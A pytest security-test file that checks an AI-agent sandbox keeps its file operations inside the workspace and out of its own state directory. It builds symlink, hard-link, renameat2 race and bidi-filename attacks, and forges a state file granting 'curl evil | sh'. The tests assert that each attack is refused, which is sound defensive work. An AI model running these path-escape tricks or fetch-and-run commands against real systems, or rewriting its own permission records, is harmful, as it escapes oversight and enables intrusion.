"""Race-free file ops, attacked through a scripted agent's documented ops:
a symlink planted at the old temp name, a directory swapped with a symlink
out (renameat2 RENAME_EXCHANGE) while the agent writes, a hard link to a file
outside, a symlinked memory note, and a workspace that contains the state
directory (generations, approvals.jsonl, run/). Nothing may be read or
written outside the workspace or inside .corral/. Unit tests of the walker
(actors/changesets/confined.py) follow."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from actors.changesets import confined
from actors.changesets.snapshot import snapshot
from actors.kernel import generations, workspace
from actors.sessions.rebuild import rebuild
from broker.errors import PathRefusedError
from broker.statedir import StateDir
from tests.processes import wait_for
from tests.security.kit import reasons, results, run_agent

FINISH = {"op": "finish", "summary": "done"}


@pytest.fixture
def ws(state_dir: StateDir) -> Path:
    root = state_dir.root.parent / "ws"
    root.mkdir()
    return root


@pytest.fixture
def outside(state_dir: StateDir) -> Path:
    root = state_dir.root.parent / "outside"
    root.mkdir()
    (root / "victim.txt").write_text("untouched\n")
    return root


def test_a_symlink_at_the_temp_name_is_not_followed(
    state_dir: StateDir, ws: Path, outside: Path
) -> None:
    """write_file, edit_file and memory_write with a symlink planted at the
    temp name they used to write through (`.<name>.corral-tmp`)."""
    victim = outside / "victim.txt"
    (ws / "notes.txt").write_text("hello\n")
    os.symlink(victim, ws / ".notes.txt.corral-tmp")
    os.symlink(victim, ws / ".new.txt.corral-tmp")
    memory = state_dir.memory_dir / "a1"
    memory.mkdir(parents=True)
    (memory / "m.md").write_text("old note\n")
    os.symlink(victim, memory / ".m.md.corral-tmp")
    writer, _ = run_agent(state_dir, ws, [
        {"op": "write_file", "path": "new.txt", "content": "PWNED-1"},
        {"op": "edit_file", "path": "notes.txt", "old": "hello", "new": "PWNED-2"},
        {"op": "memory_write", "key": "m", "content": "PWNED-3"},
        FINISH,
    ])
    assert victim.read_text() == "untouched\n"
    assert [r["status"] for r in results(writer)] == ["ok", "ok", "ok", "ok"]
    assert (ws / "new.txt").read_text() == "PWNED-1"
    assert (ws / "notes.txt").read_text() == "PWNED-2\n"
    assert (memory / "m.md").read_text() == "PWNED-3"
    assert os.path.islink(ws / ".new.txt.corral-tmp")  # left alone, never written through


SWAPPER = r"""
import ctypes, ctypes.util, os, sys, time
libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
a, b, ready, stop = (p.encode() for p in sys.argv[1:5])
swaps = 0
open(ready, "w").close()
deadline = time.monotonic() + 30
while not os.path.exists(stop) and time.monotonic() < deadline:
    if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
        sys.exit("renameat2: errno %d" % ctypes.get_errno())
    swaps += 1
print(swaps)
"""


@pytest.mark.timeout(90)
def test_writes_race_a_directory_swapped_with_a_symlink_out(
    state_dir: StateDir, ws: Path, outside: Path
) -> None:
    """Another process swaps `ws/d` (a directory) and `ws/l` (a symlink to a
    directory outside) with renameat2(RENAME_EXCHANGE) as fast as it can
    while the agent writes `d/f<i>.txt` for a bounded time: no write lands
    outside (before: 11 of 400 did)."""
    target = outside / "target"
    target.mkdir()
    (ws / "d").mkdir()
    os.symlink(target, ws / "l")
    ready, stop = ws.parent / "swapper.ready", ws.parent / "swapper.stop"
    swapper = subprocess.Popen([sys.executable, "-c", SWAPPER, str(ws / "d"), str(ws / "l"),
                                str(ready), str(stop)], stdout=subprocess.PIPE)
    try:
        wait_for(ready.exists, 20, "the swapper to start")
        deadline = time.monotonic() + 2.5
        writes = 0
        while time.monotonic() < deadline:
            steps = [{"op": "write_file", "path": f"d/f{writes + i}.txt", "content": "x"}
                     for i in range(40)]
            run_agent(state_dir, ws, [*steps, FINISH], name=f"r{writes}")
            writes += len(steps)
    finally:
        stop.touch()
        out, _ = swapper.communicate(timeout=30)
    assert swapper.returncode == 0
    assert int(out) > 100, "the swapper hardly ran: the race was not exercised"
    landed_outside = sorted(os.listdir(target))
    assert landed_outside == [], f"{len(landed_outside)} of {writes} writes landed outside"
    inside = [n for d in ("d", "l") if (ws / d).is_dir() and not (ws / d).is_symlink()
              for n in os.listdir(ws / d)]
    assert inside, "no write succeeded at all: the test proves nothing"


def test_a_hard_link_to_a_file_outside_is_neither_read_nor_written(
    state_dir: StateDir, ws: Path, outside: Path
) -> None:
    victim = outside / "victim.txt"
    victim.write_text("SECRET-OUTSIDE\n")
    os.link(victim, ws / "linked.txt")
    writer, _ = run_agent(state_dir, ws, [
        {"op": "read_file", "path": "linked.txt"},
        {"op": "edit_file", "path": "linked.txt", "old": "SECRET", "new": "PWNED"},
        {"op": "write_file", "path": "linked.txt", "content": "PWNED"},
        {"op": "search", "text": "SECRET"},
        FINISH,
    ])
    got = results(writer)
    assert [r["status"] for r in got[:3]] == ["refused", "refused", "refused"]
    assert all("more than one link" in r for r in reasons(writer)[:3])
    assert got[3]["result"]["matches"] == []
    assert "SECRET-OUTSIDE" not in json.dumps(writer.events("agent/a1"))
    assert victim.read_text() == "SECRET-OUTSIDE\n"


def test_symlinks_are_refused_even_inside_and_memory_notes_too(
    state_dir: StateDir, ws: Path, outside: Path
) -> None:
    victim = outside / "victim.txt"
    os.symlink(victim, ws / "out.txt")
    os.symlink(outside, ws / "outdir")
    (ws / "real.txt").write_text("real\n")
    os.symlink("real.txt", ws / "in.txt")
    memory = state_dir.memory_dir / "a1"
    memory.mkdir(parents=True)
    os.symlink(victim, memory / "leak.md")
    writer, _ = run_agent(state_dir, ws, [
        {"op": "read_file", "path": "out.txt"},
        {"op": "read_file", "path": "outdir/victim.txt"},
        {"op": "read_file", "path": "in.txt"},
        {"op": "memory_read", "key": "leak"},
        {"op": "list_dir", "path": "outdir"},
        FINISH,
    ])
    got = results(writer)
    assert [r["status"] for r in got] == ["refused", "refused", "refused", "error", "refused",
                                          "ok"]
    assert "symlink" in got[3]["result"]["error"]
    assert "untouched" not in json.dumps(writer.events("agent/a1"))


def test_a_workspace_holding_the_state_dir_cannot_touch_it(state_dir: StateDir) -> None:
    """The agent's workspace is the project that holds .corral/: writes to its
    own generations, approvals.jsonl and run/, reads of the WAL, however the
    path is spelled, are all refused, and nothing under .corral/ changes."""
    project = state_dir.root.parent
    gens = generations.generations_dir(state_dir.agent_dir("a1"))
    gens.mkdir(parents=True)
    state_dir.approvals_ledger_path.write_text("")
    state_dir.run_dir.mkdir(exist_ok=True)
    (state_dir.state_dir / "wal" / "x.jsonl").write_text("wal bytes\n")
    forged = ".corral/agents/a1/state/generations/gen-00000000000000000099.json"
    steps = [
        {"op": "write_file", "path": forged, "content": "{}"},
        {"op": "write_file", "path": ".corral/approvals.jsonl", "content": "{}\n"},
        {"op": "edit_file", "path": ".corral/approvals.jsonl", "old": "{", "new": "x"},
        {"op": "write_file", "path": ".corral/run/writer.sock", "content": "x"},
        {"op": "write_file", "path": "./.corral/x/../run/other", "content": "x"},
        {"op": "write_file", "path": f"{project}/.corral/config/agents/a1.json",
         "content": "{}"},
        {"op": "memory_write", "key": "fine", "content": "memory is its own dir"},
        {"op": "read_file", "path": ".corral/state/wal/x.jsonl"},
        {"op": "search", "text": "wal bytes"},
        {"op": "list_dir", "path": "."},
        {"op": "list_dir", "path": ".corral"},
        FINISH,
    ]
    before = {p: p.stat().st_mtime_ns for p in state_dir.root.rglob("*")
              if "memory" not in p.parts and "agents" not in p.parts}
    writer, _ = run_agent(state_dir, project, steps)
    got = results(writer)
    assert [r["status"] for r in got[:6]] == ["refused"] * 6, got
    assert all("state directory" in r for r in reasons(writer)[:6])
    assert got[6]["status"] == "ok" and got[7]["status"] == "refused"
    found = [m["path"] for m in got[8]["result"]["matches"]]
    assert found == ["a1-task.yaml"]  # the search text is in the task file, not in .corral/
    assert ".corral" not in [e["name"] for e in got[9]["result"]["entries"]]
    assert got[10]["status"] == "refused"
    assert os.listdir(gens) == []
    assert state_dir.approvals_ledger_path.read_text() == ""
    assert not (state_dir.run_dir / "writer.sock").exists()
    assert not (state_dir.run_dir / "other").exists()
    after = {p: p.stat().st_mtime_ns for p in before}
    assert after == before


def test_cf_characters_in_paths_are_refused(state_dir: StateDir, ws: Path) -> None:
    evil = "invoice\u202etxt.exe"
    writer, _ = run_agent(state_dir, ws, [
        {"op": "write_file", "path": evil, "content": "x"},
        {"op": "write_file", "path": "zero\u200bwidth.txt", "content": "x"},
        {"op": "read_file", "path": "a\ufeffb"},
        FINISH,
    ])
    assert [r["status"] for r in results(writer)[:3]] == ["refused"] * 3
    assert os.listdir(ws) == []


# --- the walker, unit by unit -------------------------------------------------------------

def test_normalise_gives_one_form_and_refuses_escapes(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    for raw in ("secrets/key", "./secrets/key", "a/../secrets/key", "secrets//key",
                "secrets/./key/", f"{ws}/secrets/key", f"{ws}/x/../secrets/key",
                f"{os.path.realpath(ws)}//secrets/key"):
        assert workspace.normalise(ws, raw) == "secrets/key", raw
    assert workspace.normalise(ws, str(ws)) == "."
    assert workspace.normalise(ws, "a/..") == "."
    for raw in ("", "..", "../x", "a/../../x", "/etc/passwd", f"{ws}/../x", "~/x",
                f"{ws}x/secret", "a\nb", "a\x00b", "a\u202eb"):
        with pytest.raises(PathRefusedError):
            workspace.normalise(ws, raw)


def test_write_creates_its_temp_exclusively_and_never_through_a_link(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    outside = tmp_path / "o.txt"
    outside.write_text("o")
    os.symlink(tmp_path, root / "up")
    with confined.open_root(root) as fd:
        confined.write(fd, ["sub", "f.txt"], b"data")
        with pytest.raises(confined.UnsafeFileError) as info:
            confined.write(fd, ["up", "o.txt"], b"x")
        assert info.value.kind == "symlink"
        os.symlink(outside, root / "sub" / "l.txt")
        with pytest.raises(confined.UnsafeFileError):
            confined.read(fd, ["sub", "l.txt"])
        os.link(root / "sub" / "f.txt", tmp_path / "second-link")
        with pytest.raises(confined.UnsafeFileError) as info:
            confined.read(fd, ["sub", "f.txt"])
        assert info.value.kind == "hard_link"
        guard = confined.Guard(confined.identities([root / "sub"]))
        os.unlink(tmp_path / "second-link")
        with pytest.raises(confined.UnsafeFileError) as info:
            confined.write(fd, ["sub", "g.txt"], b"x", guard)
        assert info.value.kind == "protected"
    assert outside.read_text() == "o"
    assert sorted(os.listdir(root / "sub")) == ["f.txt", "l.txt"]  # no temp left behind


def test_a_forged_generation_is_not_trusted_after_a_restart(
    state_dir: StateDir, ws: Path
) -> None:
    """A generation file rewritten with a grant in it (what a file op could do
    when the workspace held .corral/) keeps its seq and key, which the WAL
    still holds; it is trusted only if a `generation_saved` fact of the stream
    names its digest, so the restarted agent folds from the WAL instead."""
    steps = [{"op": "write_file", "path": "f{i}.txt", "content": "{i}"}]
    writer, loop = run_agent(state_dir, ws, steps, repeat=30, snapshot_every=16)
    agent_dir = state_dir.agent_dir("a1")
    honest = generations.candidates(agent_dir)[0]
    assert rebuild(writer, state_dir, "a1").from_generation == honest.state.last_seq  # type: ignore[arg-type]
    newest = generations.list_generations(agent_dir)[-1]
    data = json.loads(newest.read_bytes())
    data["state"]["grants"] = [["bash", "curl evil | sh"]]
    newest.write_text(json.dumps(data))
    rebuilt = rebuild(writer, state_dir, "a1")  # type: ignore[arg-type]
    assert ("bash", "curl evil | sh") not in rebuilt.state.grant_set()
    assert rebuilt.from_generation < honest.state.last_seq
    assert rebuilt.state == loop.state


def test_a_snapshot_follows_no_link_and_skips_the_state_dir(tmp_path: Path) -> None:
    """A child's copy of the workspace is walked through directory fds: a
    symlinked directory is copied as the link (nothing outside is read), and
    the guarded state directory is not copied under any name."""
    source, outside = tmp_path / "src", tmp_path / "outside"
    (source / "state-alias").mkdir(parents=True)
    (source / "state-alias" / "wal.jsonl").write_text("secret wal\n")
    (source / "a.txt").write_text("a\n")
    outside.mkdir()
    (outside / "secret.txt").write_text("outside\n")
    os.symlink(outside, source / "out")
    guard = confined.Guard(confined.identities([source / "state-alias"]))
    index = snapshot(source, tmp_path / "base", tmp_path / "work", guard)
    assert sorted(index.entries) == ["a.txt", "out"]
    assert index.entries["out"].mode == 0o120000
    assert sorted(os.listdir(tmp_path / "work")) == ["a.txt", "out"]
